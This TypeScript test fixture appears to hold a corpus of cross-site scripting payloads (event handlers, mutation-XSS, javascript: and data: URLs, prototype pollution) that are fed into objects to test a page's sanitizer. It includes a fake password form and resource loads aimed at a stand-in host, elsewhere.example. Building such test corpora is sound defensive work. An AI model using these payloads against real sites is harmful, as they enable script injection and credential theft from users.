/** Calls the page's detection function from any context. */
const ALARM = 'top.__alarm(1)';
const AWAY = 'https://elsewhere.example';

/** Markup that runs as soon as it is parsed as HTML. */
const ELEMENTS = [
  `<script>${ALARM}</script>`,
  `"><script>${ALARM}</script>`,
  `'><script src="data:text/javascript,${ALARM}"></script>`,
  `</script><script>${ALARM}</script>`,
  `</textarea></title></style><script>${ALARM}</script>`,
  `<script type="module">import "data:text/javascript,${ALARM}"</script>`,
  `<img src=x onerror=${ALARM}>`,
  `"><img src=x onerror="${ALARM}">`,
  `<img/src=x/onerror=${ALARM}//>`,
  `<IMG SRC=x OnErRoR=${ALARM}>`,
  `" autofocus onfocus="${ALARM}" tabindex="0`,
  `' onmouseover='${ALARM}' style='position:fixed;inset:0`,
  `<details open ontoggle=${ALARM}>x</details>`,
  `<video><source onerror=${ALARM} src=x></video>`,
  `<audio src=x onerror=${ALARM}></audio>`,
  `<body onload=${ALARM}>`,
  `<input autofocus onfocus=${ALARM}>`,
  `<marquee onstart=${ALARM}>x</marquee>`,
  `<div popover id=p onbeforetoggle=${ALARM}></div><button popovertarget=p>x</button>`,
];

/** Foreign content, and markup that changes when it is parsed a second time. */
const MUTATING = [
  `<svg onload=${ALARM}></svg>`,
  `<svg><script>${ALARM}</script></svg>`,
  `<svg><animate onbegin=${ALARM} attributeName=x dur=1s></animate></svg>`,
  `<svg><a xlink:href="javascript:${ALARM}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${ALARM}</script></svg>#x"></use></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${ALARM}>">`,
  `<svg><foreignObject><iframe srcdoc="<script>${ALARM}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ALARM}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ALARM}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${ALARM}"></style></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${ALARM}>"></noscript>`,
  `<template><script>${ALARM}</script></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror=${ALARM}></template></div>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${ALARM}>">`,
  `<!--><img src=x onerror=${ALARM}>-->`,
  `<![CDATA[><img src=x onerror=${ALARM}>]]>`,
];

/** Frames, objects, forms and other elements that send the browser to another host. */
const EMBEDDED = [
  `<iframe srcdoc="<script>${ALARM}</script>"></iframe>`,
  `<iframe src="javascript:${ALARM}"></iframe>`,
  `<object data="data:text/html,<script>${ALARM}</script>"></object>`,
  `<embed src="javascript:${ALARM}">`,
  `<base href="${AWAY}/"><meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  `<link rel="stylesheet" href="${AWAY}/a.css"><style>@import "${AWAY}/b.css";</style>`,
  `<form action="${AWAY}/take"><input name="password" value="x"><button>Inloggen</button></form>`,
  `<a href="javascript:${ALARM}" ping="${AWAY}/ping">x</a>`,
  `<p style="background:url(${AWAY}/c.png);width:expression(${ALARM})">x</p>`,
  `red;background:url(${AWAY}/d.png);--x:expression(${ALARM})`,
];

/** Dangerous values for addresses. */
export const ADDRESSES = [
  `javascript:${ALARM}`,
  ` \tJaVaScRiPt:${ALARM}`,
  `java\nscript:${ALARM}`,
  `java\tscr\ript:${ALARM}//`,
  `\u0001javascript:${ALARM}`,
  `javascript&colon;${ALARM}`,
  `&#106;avascript:${ALARM}`,
  `%6aavascript:${ALARM}`,
  `javascript://%0a${ALARM}`,
  `data:text/html,<script>${ALARM}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuX19hbGFybSgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${ALARM}"/>`,
  `vbscript:msgbox(1)`,
  `blob:null/x`,
  `x:y" onclick="${ALARM}`,
];

/** Names of inherited properties, and characters that look like others. */
const ODD = [
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '{{constructor.constructor("top.__alarm(1)")()}}',
  '${top.__alarm(1)}',
  '$t(alarm) {{name}}',
  '\uFF1Cscript\uFF1Etop.__alarm(1)\uFF1C/script\uFF1E',
  '\u202Egnp.x\u202C<script\u0000>top.__alarm(1)</script>',
  '\uD800\uDFFF\uD83D',
  '\u0000\u0008\u001B[31m',
  `${'<b>'.repeat(3000)}x`,
  `${'A'.repeat(20_000)}<img src=x onerror=${ALARM}>`,
];

export const CORPUS: readonly string[] = [...ELEMENTS, ...MUTATING, ...EMBEDDED, ...ADDRESSES, ...ODD];

/** Replaces every text in a value by another hostile one, starting with number `turn`. */
export function poisoned(value: unknown, turn: number, keeps: (key: string) => boolean = () => false): unknown {
  let at = turn;
  const poison = (part: unknown, key: string): unknown => {
    if (typeof part === 'string') return keeps(key) ? part : CORPUS[(at += 7) % CORPUS.length];
    if (typeof part !== 'object' || part === null) return part;
    if (Array.isArray(part)) return part.map((item) => poison(item, key));
    return Object.fromEntries(Object.entries(part).map(([name, inner]) => [name, poison(inner, name)]));
  };
  return poison(value, '');
}
